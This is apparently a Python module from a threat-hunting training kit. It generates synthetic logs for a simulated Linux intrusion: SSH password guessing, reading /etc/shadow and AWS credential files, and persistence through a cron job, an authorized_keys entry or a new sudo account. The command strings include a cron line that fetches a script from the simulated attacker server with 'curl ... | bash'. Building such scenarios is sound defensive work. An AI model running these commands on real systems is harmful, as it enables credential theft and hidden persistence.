"""Linux: from the client by SSH to a server, where the keys to the cloud lie in a file."""

from __future__ import annotations

from typing import TYPE_CHECKING

from huntbook.scenarios import _linux
from huntbook.scenarios._answers import Process as ProcessFact
from huntbook.scenarios._answers import Remote
from huntbook.scenarios._clock import HOUR, MINUTE, SECOND
from huntbook.scenarios._intrusion._story import Place
from huntbook.scenarios._linux import Login, Run
from huntbook.scenarios._zeek import Request, Volume

if TYPE_CHECKING:
    from collections.abc import Sequence
    from random import Random

    from huntbook.scenarios._company import Host
    from huntbook.scenarios._intrusion._story import Story

_USERS = ("deploy", "reports", "appadmin", "etl", "jenkins")


class _Shell:
    """The attacker's shell on a Linux host."""

    def __init__(self, story: Story, host: Host, login: Login, rng: Random) -> None:
        self.story, self.host, self.login, self.rng = story, host, login, rng
        self.pid = rng.randrange(20_000, 900_000)
        self.moment = 0

    def run(self, path: str, arguments: Sequence[str], *, sudo: bool = False) -> Run:
        """Run a command, with sudo as root."""
        self.moment += self.rng.randrange(6, 45) * SECOND
        run = Run(self.pid + self.rng.randrange(5, 5000), self.pid, path, arguments, f"/home/{self.login.name}")
        if sudo:
            text = f"{self.login.name} : TTY=pts/0 ; PWD={run.folder} ; USER=root ; COMMAND={path} {' '.join(arguments[1:])}"
            self.story.logs.syslog(self.host, self.moment - 15, "sudo", 0, text)
        login = self.login._replace(uid=0) if sudo else self.login
        self.story.logs.audit(self.host, self.moment, _linux.executed(self.moment, run, login))
        return run

    def plant(self, stage: str, technique: str, run: Run, *, note: str, indicators: Sequence[str] = ()) -> None:
        """Note what a command was for."""
        story, host = self.story, self.host
        story.plant(stage, technique, self.moment, Place(host, self.login.name, "auditd"),
                    files=story.files(host, story.logs.path_of(host, audit=True)), note=note, indicators=indicators)  # fmt: skip
        fact = ProcessFact(id=run.pid, path=run.path, command_line=" ".join(run.arguments), parent_id=run.ppid)
        story.facts[-1] = story.facts[-1].model_copy(update={"process": fact})


def enter_linux(story: Story) -> None:
    """Log on with a guessed password after a few wrong ones, look around, read keys, and stay."""
    rng, day = story.stream("linux"), story.days[1]
    host = story.company.servers[rng.choice(["data", "jump"])]
    user = rng.choice(_USERS)
    moment = min(day.start + rng.randrange(4 * HOUR, 6 * HOUR), day.end - HOUR)
    shell = _Shell(story, host, Login(user, 1010, 1010, rng.randrange(5000, 9000)), rng)
    _log_on(story, rng, moment, shell)
    shell.moment = moment + 20 * SECOND
    for path, arguments in (
        ("/usr/bin/id", ["id"]),
        ("/usr/bin/uname", ["uname", "-a"]),
        ("/usr/bin/cat", ["cat", "/etc/passwd"]),
    ):
        run = shell.run(path, arguments)
    shell.plant("discovery", "T1087.001", run, note="The accounts of the host were listed.")
    run = shell.run("/usr/bin/cat", ["cat", "/etc/shadow"], sudo=True)
    shell.plant(
        "credential access", "T1003.008", run, note="The hashed passwords were read.", indicators=["/etc/shadow"]
    )
    shell.run("/usr/bin/find", ["find", "/", "-name", "credentials", "-path", "*.aws*"])
    keys = f"/home/{user}/.aws/credentials"
    run = shell.run("/usr/bin/cat", ["cat", keys])
    shell.plant("credential access", "T1552.001", run, note="The keys to the cloud were read.", indicators=[keys])
    rng.choice([_cron, _key, _user])(shell)


def _log_on(story: Story, rng: Random, moment: int, shell: _Shell) -> None:
    """Open a session from the client, after a few passwords that were wrong."""
    host, client, user, logs = shell.host, story.client, shell.login.name, story.logs
    command = ("C:\\Windows\\System32\\OpenSSH\\ssh.exe", f"ssh {user}@{host.fqdn}")
    tool = story.spawn(story.machine, moment - 40 * SECOND, command, story.implants[1].process, seconds=1200)
    for number in range(rng.randrange(2, 6)):
        _guess(story, moment - (35 - 5 * number) * SECOND, shell, number)
    volume = Volume(1100.0, 31_000, 74_000)
    flow = story.world.reach(rng, moment, client, (host.address, 22), volume, process=tool, service="ssh")
    accepted = f"Accepted password for {user} from {client.address} port {flow.source_port} ssh2"
    opened = f"pam_unix(sshd:session): session opened for user {user}(uid=1010) by (uid=0)"
    logs.syslog(host, moment + 700, "sshd", shell.pid, accepted)
    logs.syslog(host, moment + 720, "sshd", shell.pid, opened)
    event = _linux.user_event(
        moment + 710, "USER_LOGIN", shell.pid, shell.login, operation="login", address=client.address
    )
    logs.audit(host, moment + 710, event)
    story.plant("lateral movement", "T1021.004", moment, Place(host, user, "sshd"),
                files=[logs.path_of(host), logs.path_of(host, audit=True), "zeek/conn.log.gz", logs.path_of(client)],
                note="A password was guessed and a session opened from the client.",
                remote=Remote(address=client.address, port=flow.source_port), indicators=[user, client.address])  # fmt: skip


def _guess(story: Story, moment: int, shell: _Shell, number: int) -> None:
    """Log one password that is wrong."""
    host, address, pid = shell.host, story.client.address, shell.pid - 10 + number
    text = f"Failed password for {shell.login.name} from {address} port {50000 + number} ssh2"
    story.logs.syslog(host, moment, "sshd", pid, text)
    stranger = Login(shell.login.name, -1, 0, -1)
    event = _linux.user_event(moment, "USER_LOGIN", pid, stranger, operation="login", address=address, good=False)
    story.logs.audit(host, moment, event)


def _cron(shell: _Shell) -> None:
    """Have cron fetch and run a script of the attacker's."""
    story, host = shell.story, shell.host
    name, url = (
        shell.rng.choice(["sysstat-rotate", "logcheck2", "certwatch"]),
        f"{story.command.url}/{shell.rng.getrandbits(24):06x}.sh",
    )
    line = f"curl -fsSL {url} | bash"
    run = shell.run("/usr/bin/tee", ["tee", f"/etc/cron.d/{name}"], sudo=True)
    event = _linux.file_written(shell.moment + 4, run, shell.login._replace(uid=0), f"/etc/cron.d/{name}", key="cron")
    story.logs.audit(host, shell.moment + 4, event)
    shell.plant(
        "persistence",
        "T1053.003",
        run,
        note=f"A job {name} was added to cron.",
        indicators=[f"/etc/cron.d/{name}", url],
    )
    moment = shell.moment - shell.moment % (10 * MINUTE)
    root = Login("root", 0, 0, 9000, "(none)")
    for number in range(1, 7):
        tick = moment + number * 10 * MINUTE
        story.logs.syslog(host, tick + 1000, "CRON", shell.pid + number * 60, f"(root) CMD ({line})")
        job = Run(
            shell.pid + number * 60 + 1, shell.pid + number * 60, "/usr/bin/dash", ["/bin/sh", "-c", line], "/root"
        )
        story.logs.audit(host, tick + 1010, _linux.executed(tick + 1010, job, root))
        _fetch(shell, tick + 1100, url)


def _fetch(shell: _Shell, moment: int, url: str) -> None:
    place, secure = shell.story.command, shell.story.command.port == 443
    request = None if secure else Request("GET", place.domain, "/" + url.rpartition("/")[2], "curl/8.5.0", answer=640)
    shell.story.world.reach(shell.rng, moment, shell.host, (place.address, place.port), Volume(0.4, 420, 900),
                            request=request, server_name=place.domain if secure else "")  # fmt: skip


def _key(shell: _Shell) -> None:
    """Add a key of the attacker's to those that may log on."""
    path = f"/home/{shell.login.name}/.ssh/authorized_keys"
    line = f"echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{shell.rng.getrandbits(120):030x} ops@workbench >> {path}"
    run = shell.run("/usr/bin/bash", ["bash", "-c", line])
    event = _linux.file_written(shell.moment + 4, run, shell.login, path, key="ssh")
    shell.story.logs.audit(shell.host, shell.moment + 4, event)
    shell.plant("persistence", "T1098.004", run, note="A key was added to authorized_keys.", indicators=[path])


def _user(shell: _Shell) -> None:
    """Make an account that may become root."""
    name = shell.rng.choice(["sysbackup", "nagios2", "webops", "ftpsync"])
    run = shell.run("/usr/sbin/useradd", ["useradd", "-m", "-s", "/bin/bash", "-G", "sudo", name], sudo=True)
    text = f"new user: name={name}, UID=1044, GID=1044, home=/home/{name}, shell=/bin/bash, from=/dev/pts/0"
    shell.story.logs.syslog(shell.host, shell.moment + 30, "useradd", run.pid, text)
    shell.plant("persistence", "T1136.001", run, note=f"The account {name} was created with sudo.", indicators=[name])
